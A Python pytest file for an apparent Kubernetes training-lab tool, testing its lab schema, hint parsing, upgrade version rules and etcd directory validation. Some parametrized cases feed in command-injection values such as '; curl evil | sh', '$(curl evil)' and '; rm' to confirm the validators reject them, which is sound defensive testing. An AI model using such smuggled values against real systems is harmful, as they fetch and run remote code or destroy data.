"""A lab's schema and hints."""

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from clusterdojo.errors import ContentError
from clusterdojo.lab.hints import hints
from clusterdojo.lab.loading import load_lab
from clusterdojo.lab.model import ClusterSpec, EtcdSpec, Lab, NodeSpec
from clusterdojo.lab.suite import suite
from clusterdojo.lab.upgrade import Upgrade
from clusterdojo.lab.values import Drawn

CHECKOUT = Path(__file__).parents[2]
TESTDATA = CHECKOUT / "tests" / "lab" / "testdata"


@pytest.fixture
def schema() -> dict[str, Any]:
    """lab.yaml's JSON Schema, as an editor gets it."""
    return Lab.model_json_schema(by_alias=True)


@pytest.mark.parametrize("lab_id", suite().lab_ids())
def test_the_suites_labs_are_valid_by_the_schema(lab_id: str, schema: dict[str, Any]) -> None:
    """An editor marks nothing in a lab that lint accepts."""
    content = yaml.safe_load((suite().lab_dir(lab_id) / "lab.yaml").read_text(encoding="utf-8"))
    jsonschema.validate(content, schema)


@pytest.mark.parametrize(
    "name",
    ["ten-ways", "missing-fields", "values", "list", "text", "python-names", "taints"],
)
def test_the_schema_refuses_what_lint_refuses(name: str, schema: dict[str, Any]) -> None:
    """An editor marks the mistake while it is made."""
    content = yaml.safe_load((TESTDATA / f"invalid-{name}.yaml").read_text(encoding="utf-8"))
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(content, schema)


def test_the_published_schema_is_that_of_the_model(schema: dict[str, Any]) -> None:
    """The file that every lab.yaml names in its first line is up to date.

    But for the names of engines, which the model does not know.
    """
    published = json.loads((CHECKOUT / "docs" / "schema" / "lab.v1alpha1.json").read_text())
    jsonschema.Draft202012Validator.check_schema(published)
    assert published["properties"].pop("engines")["items"]["enum"] == ["kind", "kwok"]
    assert published["properties"] == {
        k: v for k, v in schema["properties"].items() if k != "engines"
    }
    assert published["$defs"] == schema["$defs"]


def test_hints_are_the_items_of_a_numbered_list(tmp_path: Path) -> None:
    """Each is one paragraph with its values, whatever its line breaks are."""
    (tmp_path / "hints.md").write_text(
        "Read one at a time.\n\n1. Look at {{ app }}.\n   Twice.\n2.  Version 1.35\nis 3. of all\n"
    )
    assert hints(tmp_path, {"app": "blue"}) == ["Look at blue. Twice.", "Version 1.35 is 3. of all"]


def test_a_file_without_a_list_has_no_hints(tmp_path: Path) -> None:
    """Text before the first number belongs to none."""
    (tmp_path / "hints.md").write_text("Think.\n")
    assert hints(tmp_path, {}) == []


def test_hints_that_are_missing_are_told(tmp_path: Path) -> None:
    """With the file, and no traceback."""
    with pytest.raises(ContentError, match=r"hints\.md can't be read"):
        hints(tmp_path, {})


UPGRADING = """\
# yaml-language-server: $schema=../../docs/schema/lab.v1alpha1.json
apiVersion: clusterdojo.dev/v1alpha1
kind: Lab
id: upgrading
title: From one version to the next
domain: architecture
minutes: 10
engines: [kind]
clusters:
  - name: cluster1
    upgrade: {from: 1.34.4, to: 1.35.4}
    nodes:
      - {name: controlplane, role: control-plane, upgraded: true}
      - {name: node01}
values:
  app: {choose: [shop, market]}
docs:
  - https://kubernetes.io/docs/
"""


@pytest.fixture
def upgrading(tmp_path: Path) -> Lab:
    """A lab whose control plane is one version ahead."""
    (tmp_path / "upgrading").mkdir()
    (tmp_path / "upgrading" / "lab.yaml").write_text(UPGRADING)
    return load_lab(tmp_path / "upgrading")


def _upgrade(old: str, new: str) -> Upgrade:
    return Upgrade.model_validate({"from": old, "to": new})


def test_nodes_begin_on_their_side_of_an_upgrade(upgrading: Lab) -> None:
    """A node that is `upgraded` has what the others are to get."""
    [cluster] = upgrading.clusters
    assert [cluster.version_of(node) for node in cluster.nodes] == ["1.35.4", "1.34.4"]
    assert ClusterSpec(kubernetes="1.34.4").version_of(NodeSpec(name="node01")) == "1.34.4"
    assert ClusterSpec().version_of(NodeSpec(name="node01")) is None


def test_texts_name_the_versions_of_an_upgrade(upgrading: Lab) -> None:
    """They are values like the drawn ones, and an attempt's values tell its versions again."""
    drawn = upgrading.draw(7)
    assert drawn.pop("app") in {"shop", "market"}
    assert drawn == {
        "from_version": "1.34.4", "to_version": "1.35.4", "from_minor": "1.34", "to_minor": "1.35",
    }  # fmt: skip
    assert Upgrade.of(drawn) == upgrading.upgrade
    assert Upgrade.of({"app": "shop"}) is None


def test_other_versions_take_the_place_of_the_labs(upgrading: Lab) -> None:
    """Nodes, texts and attempts follow the pair that the learner chose."""
    other = upgrading.with_upgrade(_upgrade("1.33.2", "1.34.4"))
    [cluster] = other.clusters
    assert [cluster.version_of(node) for node in cluster.nodes] == ["1.34.4", "1.33.2"]
    assert other.draw(7)["to_minor"] == "1.34"
    assert other.draw(7)["app"] == upgrading.draw(7)["app"]
    assert upgrading.with_upgrade(None) is upgrading


@pytest.mark.parametrize("lab_id", suite().lab_ids())
def test_what_a_lab_draws_it_can_have_drawn(lab_id: str) -> None:
    """Of every lab of the suite, with its seed; and with another one only by chance."""
    lab = load_lab(suite().lab_dir(lab_id))
    for seed in (0, 1, 7, -1, 10**9):
        drawn = lab.draw(seed)
        assert lab.why_not_drawn(drawn, seed) == lab.why_not_drawn(drawn) == ""
        other = "" if drawn == lab.draw(seed + 1) else "its seed draws other values"
        assert lab.why_not_drawn(drawn, seed + 1) == other


def test_any_upgrade_may_be_that_of_an_attempt(upgrading: Lab) -> None:
    """`dojo start --from --to` takes other versions than the lab's."""
    other = Upgrade.model_validate({"from": "1.33.4", "to": "1.34.4"})
    assert upgrading.why_not_drawn(upgrading.with_upgrade(other).draw(7), 7) == ""


@pytest.mark.parametrize(
    "changed",
    [
        {"to_version": "1.35.4; curl evil | sh"},
        {"to_version": "1.35.4\n"},
        {"to_version": "1.36.4"},
        {"to_version": "1.35." + "4" * 5000},
        {"to_version": 1},
        {"to_minor": "$(curl evil)"},
        {"from_minor": "1.33"},
    ],
)
def test_versions_that_are_no_upgrade_can_not_be_drawn(
    upgrading: Lab, changed: dict[str, Drawn]
) -> None:
    """They stand in commands like any other value."""
    drawn = upgrading.draw(7)
    assert upgrading.why_not_drawn(drawn | changed) == (
        "its Kubernetes versions are not an upgrade by one minor version"
    )
    assert upgrading.why_not_drawn({n: v for n, v in drawn.items() if n not in changed})


@pytest.mark.parametrize(
    ("old", "new"),
    [("1.33.2", "1.35.4"), ("1.35.4", "1.34.4"), ("1.34.4", "1.34.5"), ("1.35.0", "2.36.0")],
)
def test_an_upgrade_is_one_minor_version(old: str, new: str) -> None:
    """kubeadm refuses anything else, so a lab can't be about it."""
    with pytest.raises(ValueError, match="one minor version at a time"):
        _upgrade(old, new)


def test_etcds_directory_is_what_the_attempt_draws(upgrading: Lab) -> None:
    """One lab, another directory each time; what is written out stays as it is."""
    spec = ClusterSpec(etcd=EtcdSpec(data_dir="{{ data_dir }}"))
    fixed = ClusterSpec(name="cluster2", etcd=EtcdSpec(data_dir="/srv/etcd"))
    lab = upgrading.model_copy(update={"clusters": [spec, fixed]})
    drawn = lab.with_values({"data_dir": "/var/lib/etcd-k7"})
    assert [c.etcd.data_dir for c in drawn.clusters] == ["/var/lib/etcd-k7", "/srv/etcd"]
    assert upgrading.with_values({}).clusters == upgrading.clusters


@pytest.mark.parametrize("drawn", [{}, {"data_dir": 3}, {"data_dir": "etcd"}])
def test_etcds_directory_has_to_be_a_path(upgrading: Lab, drawn: dict[str, Drawn]) -> None:
    """A value that was forgotten, or is no path, is the author's slip."""
    spec = ClusterSpec(etcd=EtcdSpec(data_dir="{{ data_dir }}"))
    with pytest.raises(ContentError, match="which does not draw an absolute path"):
        upgrading.model_copy(update={"clusters": [spec]}).with_values(drawn)


@pytest.mark.parametrize("path", ["var/lib/etcd", "/var/lib/etcd; rm", "{{ a }}/x", ""])
def test_etcds_directory_is_absolute_and_plain(path: str) -> None:
    """It goes into kubeadm's configuration."""
    with pytest.raises(ValueError, match="data_dir"):
        EtcdSpec(data_dir=path)


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        (
            {"kubernetes": "1.35.4", "upgrade": {"from": "1.34.4", "to": "1.35.4"}},
            "leave `kubernetes` out",
        ),
        ({"nodes": [{"name": "node01", "upgraded": True}]}, "has no `upgrade`"),
    ],
)
def test_a_cluster_has_one_way_to_tell_its_version(spec: dict[str, Any], message: str) -> None:
    """What contradicts itself is an author's slip."""
    with pytest.raises(ValueError, match=message):
        ClusterSpec.model_validate(spec)


def test_an_external_etcd_has_a_machine_of_its_own(upgrading: Lab) -> None:
    """Its name is none of a node's, and stays when its directory is drawn."""
    spec = ClusterSpec(etcd=EtcdSpec(host="etcd-server", data_dir="{{ data_dir }}"))
    assert spec.machines == ["controlplane", "node01", "node02", "etcd-server"]
    lab = upgrading.model_copy(update={"clusters": [spec]})
    drawn = lab.with_values({"data_dir": "/var/lib/etcd-k7"}).clusters[0].etcd
    assert (drawn.host, drawn.data_dir) == ("etcd-server", "/var/lib/etcd-k7")
    with pytest.raises(ValueError, match="the same name"):
        ClusterSpec(etcd=EtcdSpec(host="node01"))
